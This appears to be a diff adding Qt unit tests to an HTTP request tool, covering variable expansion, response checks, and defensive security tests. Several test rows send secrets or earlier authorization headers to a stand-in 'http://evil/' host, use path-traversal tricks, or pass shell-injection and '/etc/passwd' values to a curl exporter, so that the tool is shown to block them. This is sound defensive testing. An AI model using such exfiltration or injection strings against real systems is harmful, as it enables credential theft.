@@ -2,6 +2,7 @@
 #include "client/requests/checks.h"
 #include "client/requests/environments.h"
 #include "client/requests/prepare.h"
+#include "client/requests/requestcode.h"
 
 #include <QTest>
 
@@ -61,6 +62,9 @@ private slots:
         QTest::newRow("number") << QByteArray("{{$randomInt 5 10}}") << QByteArray("9");
         QTest::newRow("number of JetBrains")
             << QByteArray("{{$random.integer(5, 10)}}") << QByteArray("9");
+        QTest::newRow("number of all")
+            << QByteArray("{{$randomInt -9223372036854775808 9223372036854775807}}")
+            << QByteArray("9223372036854775806");
         QTest::newRow("digits") << QByteArray("{{$random.hexadecimal(4)}}") << QByteArray("ffff");
         QTest::newRow("id") << QByteArray("{{$guid}}")
                             << QByteArray("ffffffff-ffff-4fff-bfff-ffffffffffff");
@@ -94,6 +98,8 @@ private slots:
                                   << QStringLiteral("$randomInt");
         QTest::newRow("of the process")
             << QByteArray("{{$processEnv HOME}}") << QStringLiteral("only by hookdeskd");
+        QTest::newRow("a time that is none")
+            << QByteArray("{{$timestamp 2000000000 y}}") << QStringLiteral("$timestamp");
         QTest::newRow("multiplying") << QByteArray("{{m0}}") << QStringLiteral("too long");
     }
 
@@ -110,6 +116,28 @@ private slots:
         const auto expanded = variables.expand(text);
         QVERIFY(!expanded);
         QVERIFY2(expanded.error().message.contains(part), qPrintable(expanded.error().message));
+    }
+
+    void namesTheVariableThatTheProcessHasNot()
+    {
+        Variables::Sources sources;
+        sources.process = [](const QByteArray &name) -> std::optional<QByteArray> {
+            return name == "EMPTY" ? std::optional(QByteArray()) : std::nullopt;
+        };
+        QCOMPARE(*Variables(sources).expand("a{{$processEnv EMPTY}}"), "a");
+        const auto none = Variables(sources).expand("{{$processEnv NONE}}");
+        QVERIFY(!none && none.error().message.contains(QStringLiteral("\"NONE\"")));
+    }
+
+    void forgetsOldAnswersWhereTheyAreLarge()
+    {
+        Variables variables;
+        const QByteArray large(100 * 1024 * 1024, 'x');
+        for (const char *name : {"a", "b", "c"})
+            variables.setAnswer(name, {}, answerOf(large));
+        QVERIFY(!variables.valueOf("a.response.status"));
+        QCOMPARE(*variables.valueOf("b.response.status"), "200");
+        QCOMPARE(*variables.valueOf("c.response.status"), "200");
     }
 
     void checksAnswers_data()
@@ -136,6 +164,8 @@ private slots:
             "expected body.name < 5, but it is \"Zo\u00eb\", which has no order with 5");
         add("body.name contains Zo");
         add("body.list contains {\"field\":\"x\"}");
+        add("body.odd <= 5",
+            "expected body.odd <= 5, but it is \"nan\", which has no order with 5");
         add("body contains total");
         add("body.name matches ^Z.+$");
         add("body.name matches (",
@@ -168,7 +198,7 @@ private slots:
         const Check::Outcome outcome = parsed->run(
             answerOf(R"({"list":[{"field":"email"},{"field":"x"}],"total":46.88,"name":"Zo)"
                      "\u00eb"
-                     R"(","null":null,"a == b":1})",
+                     R"(","null":null,"odd":"nan","a == b":1})",
                      201),
             variables);
         QCOMPARE(outcome.message, message);
@@ -277,6 +307,14 @@ private slots:
         QTest::newRow("body") << QByteArray("POST http://evil/\n\n{{key}}");
         QTest::newRow("earlier request")
             << QByteArray("POST http://evil/\n\n{{login.request.headers.x-apikey}}");
+        QTest::newRow("as another request encoded it")
+            << QByteArray("GET http://evil/\nx: {{basic.request.headers.authorization}}");
+        QTest::newRow("as another body encoded it")
+            << QByteArray("POST http://evil/\n\n{{basic.request.body.*}}");
+        QTest::newRow("beside the path of the server")
+            << QByteArray("GET http://h:1/app/../evil\nx-apikey: {{key}}");
+        QTest::newRow("beside it, encoded")
+            << QByteArray("GET http://h:1/app/%2e%2E/evil\nx-apikey: {{key}}");
         QTest::newRow("key of an id") << QByteArray("# @as key 1\nGET http://evil/");
     }
 
@@ -285,9 +323,15 @@ private slots:
         QFETCH(QByteArray, text);
         const RequestFile file = RequestFile::parse(text);
         Variables variables;
-        variables.setConnection("http://h:1", "SECRET");
+        const bool isBelow = QByteArray(QTest::currentDataTag()).startsWith("beside");
+        variables.setConnection(isBelow ? "http://h:1/app" : "http://h:1", "SECRET+");
+        const RequestFile basic = RequestFile::parse(
+            "POST {{base}}/\nAuthorization: Basic {{key}} x\ncontent-type: text/plain\n\n{{%key}}");
+        const auto sentBefore = prepare(basic.requests().first(), variables, noFiles);
+        QVERIFY(sentBefore && sentBefore->body == "SECRET%2B");
+        variables.setAnswer("basic", *sentBefore, answerOf("{}"));
         variables.setFile(file.variables());
-        variables.setAnswer("login", {"GET", "http://h:1/", {{"x-apikey", "SECRET"}}},
+        variables.setAnswer("login", {"GET", "http://h:1/", {{"x-apikey", "SECRET+"}}},
                             answerOf("{}"));
         const auto sent = prepare(file.requests().first(), variables, noFiles);
         QVERIFY(!sent);
@@ -309,6 +353,22 @@ private slots:
         Variables variables;
         variables.setEnvironment({{"lines", "a\r\nb: c"}, {"x", "file:///etc/passwd"}});
         QVERIFY(!prepare(RequestFile::parse(text).requests().first(), variables, noFiles));
+    }
+
+    /// What a stranger has sent is copied by an administrator, and pasted into a shell.
+    void copiesNothingThatAShellRuns()
+    {
+        const QString command =
+            RequestCode::curl({"A|sh", QStringLiteral("http://a"), "/", "@/etc/passwd"});
+        QVERIFY2(command.startsWith(QStringLiteral("curl -g -X 'A|sh' ")), qPrintable(command));
+        QVERIFY2(command.contains(QStringLiteral("--data-raw '@/etc/passwd'")),
+                 qPrintable(command));
+    }
+
+    void refusesThousandsOfHeaders()
+    {
+        const QByteArray text = "GET http://a\n" + QByteArray("a: b\n").repeated(1001);
+        QVERIFY(!prepare(RequestFile::parse(text).requests().first(), Variables(), noFiles));
     }
 
     void sendsAsTheWindowWhereItHasNoKey()
